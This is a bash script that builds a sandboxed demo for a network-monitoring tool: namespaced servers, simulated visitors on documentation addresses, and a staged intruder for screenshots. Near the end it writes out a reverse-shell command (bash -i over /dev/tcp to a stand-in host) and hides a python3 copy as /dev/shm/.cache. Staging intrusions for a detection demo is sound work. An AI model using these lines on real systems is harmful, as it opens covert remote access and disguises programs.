#!/usr/bin/env bash
# Makes demo.ndjson anew: a small server with visitors, recorded for a minute in namespaces of its own.
#
#   sudo demo.sh NETSTAT FILE      needs nginx, redis-server, sshd, python3, curl, iproute2, util-linux, tmux
#   sudo demo.sh NETSTAT FOLDER    instead: a snapshot and a record of it for the pictures in docs, with an intruder
#
# Nothing leaves the machine: the visitors live behind a pair of virtual interfaces, at addresses for documentation (RFC 5737).
set -euo pipefail
if [[ ${1:-} != inside ]]; then
    [[ $# -eq 2 ]] || { sed -n '2,8s/^# \{0,1\}//p' "$0"; exit 2; }
    # Paths of this machine are no business of the recording, so everything that is seen lies below /srv.
    NETSTAT=$(realpath "$1") FILE=$(realpath "$2") PATH=/usr/sbin:/usr/bin:/sbin:/bin
    export NETSTAT FILE PATH
    if [[ -d $FILE ]]; then rm -f "$FILE"/demo.json "$FILE"/demo.db; else rm -f "$FILE"; fi
    install -D "$0" /srv/demo/demo.sh
    cd /srv/demo
    exec env -i NETSTAT="$NETSTAT" FILE="$FILE" PATH="$PATH" HOME=/srv/demo TERM=xterm LC_ALL=C.UTF-8 \
        unshare --net --pid --mount --uts --ipc --fork --mount-proc --kill-child bash ./demo.sh inside
fi
export -n NETSTAT FILE
hostname harbor
dir=/srv/demo
install "$NETSTAT" "$dir/netstat"
trap 'kill $(jobs -p) 2>/dev/null || true; rm -rf "$dir"' EXIT
ip link set lo up

# The visitors' side.
unshare --net sleep 1000 &
visitors=$!
sleep 0.3
ip link add eth0 type veth peer name eth0 netns "$visitors"
ip address add 192.0.2.10/24 dev eth0
ip link set eth0 up
there() { nsenter --net="/proc/$visitors/ns/net" "$@"; }
there ip link set lo up
there ip link set eth0 up
for n in 21 22 23 24 25; do there ip address add "192.0.2.$n/24" dev eth0; done
there ip route add default via 192.0.2.10
for n in 7 80 144; do there ip address add "203.0.113.$n/32" dev lo; ip route add "203.0.113.$n/32" via 192.0.2.21; done

# The server.
mkdir -p "$dir/site"
head -c 4000000 /dev/urandom >"$dir/site/data"
cat >"$dir/nginx.conf" <<CONF
user root; worker_processes 2; daemon off; pid $dir/nginx.pid; error_log /dev/null;
events {}
http { access_log off; sendfile on;
  server { listen 80; listen [::]:80; listen 443; root $dir/site; location / { limit_rate 220k; } } }
CONF
nginx -c "$dir/nginx.conf" &
# Debian's redis-server is a link to a program of another name, which a monitor would show.
cp "$(command -v redis-server)" "$dir/redis-server"
"$dir/redis-server" --port 6379 --save '' --dir "$dir" >/dev/null &
python3 -m http.server 8080 --bind 127.0.0.1 --directory "$dir/site" >/dev/null 2>&1 &
mkdir -p /run/sshd
/usr/sbin/sshd -D -p 22 -o PidFile=none 2>/dev/null &
sleep 1

if [[ -d $FILE ]]; then
    # The recorder polls: within a process namespace tracepoints tell the numbers of the one outside.
    HOME=$dir ./netstat record --store "$dir/demo.db" --events netlink --heartbeat 2s &
    recorder=$!
    # A name server, and a peer with a name.
    python3 - <<'PYTHON' &
import socket
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 53))
while True:
    query, peer = server.recvfrom(512)
    server.sendto(query[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + query[12:] + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\xcb\0\x71\x50", peer)
PYTHON
    there python3 -m http.server 443 --bind 203.0.113.80 --directory "$dir/site" >/dev/null 2>&1 &
    cat >"$dir/sync.py" <<'PYTHON'
import socket, time
name = b"".join(bytes([len(part)]) + part for part in (b"mirror", b"example", b"org"))
while True:
    asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asking.settimeout(2)
    asking.sendto(b"\0\7\1\0\0\1\0\0\0\0\0\0" + name + b"\0\0\1\0\1", ("127.0.0.1", 53))
    asking.recv(512)
    try:
        mirror = socket.create_connection(("203.0.113.80", 443))
    except OSError:
        time.sleep(1)
        continue
    mirror.sendall(b"GET /data HTTP/1.0\r\n\r\n")
    while mirror.recv(20000):
        time.sleep(0.02)
    mirror.close()
    time.sleep(3)
PYTHON
    sleep 1
    python3 "$dir/sync.py" &
fi

# What they do.
for from in 203.0.113.7 203.0.113.80 192.0.2.22 192.0.2.23 203.0.113.144; do
    there bash -c "while :; do curl -s --interface $from http://192.0.2.10/data -o /dev/null; done" &
done
(while :; do redis-benchmark -q -n 1500 -c 4 -t set,get >/dev/null; sleep 1.5; done) &
(while :; do curl -s --limit-rate 90k http://127.0.0.1:8080/data -o /dev/null; done) &
(while :; do tar -c -C "$dir" site | gzip -9 >"$dir/backup.gz"; sync -f "$dir"; sleep 2; done) &
if [[ -d $FILE ]]; then
    sleep 45
    # An intruder: a shell whose input and output are a connection, and a hidden program where no program belongs.
    there python3 -c 'import socket, time
listener = socket.create_server(("203.0.113.144", 4444))
peers = [listener.accept() for _ in range(2)]
time.sleep(600)' &
    setsid bash -c 'until (exec 3<>/dev/tcp/203.0.113.144/4444) 2>/dev/null; do sleep 1; done
        exec bash -i <>/dev/tcp/203.0.113.144/4444 >&0 2>&1' &
    install "$(readlink -f "$(command -v python3)")" /dev/shm/.cache
    sleep 3
    PYTHONHOME=$(python3 -c 'import sys; print(sys.prefix)') /dev/shm/.cache -m http.server 6667 --directory "$dir/site" >/dev/null 2>&1 &
    sleep 6
    HOME=$dir ./netstat snapshot --output "$dir/demo.json"
    kill -TERM "$recorder"
    wait "$recorder" || true
    cp "$dir/demo.json" "$dir/demo.db" "$FILE"
    rm -f /dev/shm/.cache
    exit
fi
sleep 6
tmux -L demo -f /dev/null new-session -d -x 120 -y 40 "HOME=$dir ./netstat monitor --record recording"
sleep 62
tmux -L demo send-keys q
sleep 1
cp "$dir/recording" "$FILE"
tmux -L demo kill-server 2>/dev/null || true
